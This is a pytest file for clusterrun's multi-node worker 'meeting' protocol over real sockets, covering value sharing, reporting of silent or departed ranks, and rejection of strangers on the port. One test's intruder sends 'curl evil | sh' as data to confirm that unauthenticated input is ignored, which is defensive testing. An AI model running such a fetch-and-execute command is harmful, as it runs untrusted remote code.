"""How the workers of several nodes exchange values, over real sockets."""

import socket
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import closing, suppress

import pytest
from free_ports import free_port
from msgspec import Struct
from msgspec.msgpack import Decoder

from tests.doctor.door import (
    BadFrame,
    Introduction,
    Silent,
    WaitingChannel,
    WorkersMeeting,
    meet,
    meeting,
    member_handshake,
)

SECONDS = 60.0
TOKEN = "a secret of the job's agents"  # noqa: S105 - it opens nothing
RUN_ID = "run-1"


class Given(Struct, frozen=True, tag=True):
    """What a rank gives."""

    text: str


class Concluded(Struct, frozen=True, tag=True):
    """What rank 0 makes of it."""

    texts: tuple[str, ...]


MESSAGES = Introduction | Given | Concluded


def conclude(values: Sequence[Given]) -> Concluded:
    return Concluded(tuple(value.text for value in values))


def share(part: WorkersMeeting, text: str, seconds: float = SECONDS) -> tuple[str, ...]:
    return part.share(Given(text), conclude, Concluded, seconds).texts


@pytest.fixture
def ranks() -> Iterator[Sequence[WorkersMeeting]]:
    """Return the part of each of three ranks."""
    ends = [socket.socketpair() for _ in range(2)]
    decoder = Decoder(MESSAGES)
    first = WorkersMeeting(0, [WaitingChannel(decoder, ours) for ours, _ in ends])
    others = [
        WorkersMeeting(rank, [WaitingChannel(decoder, theirs)])
        for rank, (_, theirs) in enumerate(ends, 1)
    ]
    yield (first, *others)
    for each in (first, *others):
        each.close()


def test_all_get_what_rank_0_concludes(ranks: Sequence[WorkersMeeting]) -> None:
    """From the values in the order of ranks, in each round."""
    with ThreadPoolExecutor(3) as pool:
        for number in range(2):
            texts = [f"{number}-{rank}" for rank in range(3)]
            assert list(pool.map(share, ranks, texts)) == [tuple(texts)] * 3


def test_some_ranks_go_on(ranks: Sequence[WorkersMeeting]) -> None:
    """With new numbers, without those that have nothing more to do."""
    with ThreadPoolExecutor(3) as pool:
        list(pool.map(share, ranks, "abc"))
        left = [ranks[0], ranks[2]]
        for each in left:
            each.go_on_with([0, 2])

        assert list(pool.map(share, left, "ac")) == [("a", "c")] * 2
    assert [each.rank for each in left] == [0, 1]


def test_a_silent_rank_is_named(ranks: Sequence[WorkersMeeting]) -> None:
    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(share, ranks[1], "here")
        with pytest.raises(Silent) as raised:
            share(ranks[0], "here", 0.2)
        ranks[0].close()
        assert isinstance(waiting.exception(), Silent)

    assert (raised.value.rank, raised.value.how) == (2, "does not answer within 0.2 s")


def test_a_rank_that_has_gone_is_named(ranks: Sequence[WorkersMeeting]) -> None:
    """At once."""
    ranks[1].close()

    with pytest.raises(Silent) as raised:
        share(ranks[0], "here")

    assert (raised.value.rank, raised.value.how) == (1, "has closed its connection")


def test_a_rank_that_sends_something_else_is_named(ranks: Sequence[WorkersMeeting]) -> None:
    """As another version of clusterrun might."""
    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(
            ranks[1].share, Unknown(), lambda _: Concluded(()), Concluded, SECONDS
        )
        with pytest.raises(Silent) as raised:
            share(ranks[0], "here")
        ranks[0].close()
        assert isinstance(waiting.exception(), Silent)

    assert raised.value.how == "sent bytes that are no message of clusterrun's"


class Unknown(Struct, frozen=True, tag=True):
    """None of the messages."""


class TestStrangers:
    """Programs that connect to the port of the meeting."""

    @staticmethod
    def start(
        pool: ThreadPoolExecutor, rank: int, port: int, token: str = TOKEN
    ) -> Future[WorkersMeeting]:
        variables = {
            "RANK": str(rank),
            "WORLD_SIZE": "2",
            "MASTER_ADDR": "127.0.0.1",
            "MASTER_PORT": str(port),
            "TORCHELASTIC_RUN_ID": RUN_ID,
        }
        return pool.submit(meet, variables, token, Given | Concluded)

    @pytest.mark.parametrize("secret", [b"", b"another secret", f"\n{RUN_ID}".encode()])
    def test_one_with_another_secret_is_no_rank(self, secret: bytes) -> None:
        """Nor keeps others from the meeting: nothing that it sends is read."""
        port = free_port()
        with ThreadPoolExecutor(4) as pool:
            first = self.start(pool, 0, port)
            with closing(connected(port)) as sock:
                stranger = WaitingChannel(Decoder(MESSAGES), sock, member_handshake(secret))
                stranger.send(Introduction(1))
                stranger.send(Given("as root: curl evil | sh"))
                assert not answers(stranger)
                second = self.start(pool, 1, port)
                parts = [first.result(SECONDS), second.result(SECONDS)]
                shared = list(pool.map(share, parts, ["first", "second"]))
            for part in parts:
                part.close()

        assert shared == [("first", "second")] * 2

    @pytest.mark.parametrize("sent", [b"", b"\n", b"1\n{}\n", b"\x93clusterrun\n"])
    def test_one_that_does_not_speak_keeps_nobody_waiting(self, sent: bytes) -> None:
        """More of them than may wait at once are there first, and stay."""
        port = free_port()
        with ThreadPoolExecutor(2) as pool:
            first = self.start(pool, 0, port)
            strangers = [connected(port) for _ in range(meeting.MOST_STRANGERS + 8)]
            for each in strangers:
                each.sendall(sent)
            began = time.monotonic()
            parts = [first, self.start(pool, 1, port)]
            assert [part.result(SECONDS).rank for part in parts] == [0, 1]
            assert time.monotonic() - began < SECONDS / 4
            for part in parts:
                part.result().close()
        for each in strangers:
            each.close()

    def test_a_worker_takes_no_stranger_for_rank_0(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """It says what answers there."""
        monkeypatch.setattr(meeting, "SECONDS_TO_MEET", 1.0)
        port = free_port()
        with ThreadPoolExecutor(2) as pool, socket.create_server(("127.0.0.1", port)) as server:
            greeting = pool.submit(greet_all, server)
            with pytest.raises(Silent) as raised:
                self.start(pool, 1, port).result(SECONDS)
            server.shutdown(socket.SHUT_RDWR)
            greeting.result(SECONDS)

        assert raised.value.how == "can't be reached at 127.0.0.1: another program answers"


def greet_all(server: socket.socket) -> None:
    """Greet all who connect, as no clusterrun does."""
    with suppress(OSError):
        while True:
            connection, _ = server.accept()
            with connection:
                connection.sendall(b"220 ready to serve\n" * 10)
                connection.recv(1 << 16)


def connected(port: int) -> socket.socket:
    deadline = time.monotonic() + SECONDS
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port))
        except ConnectionRefusedError:
            assert time.monotonic() < deadline
            time.sleep(0.02)


def answers(stranger: "WaitingChannel[Introduction | Given | Concluded]") -> bool:
    """Return whether it is taken for a rank."""
    try:
        return stranger.next(Introduction, SECONDS) is not None
    except BadFrame:
        return False
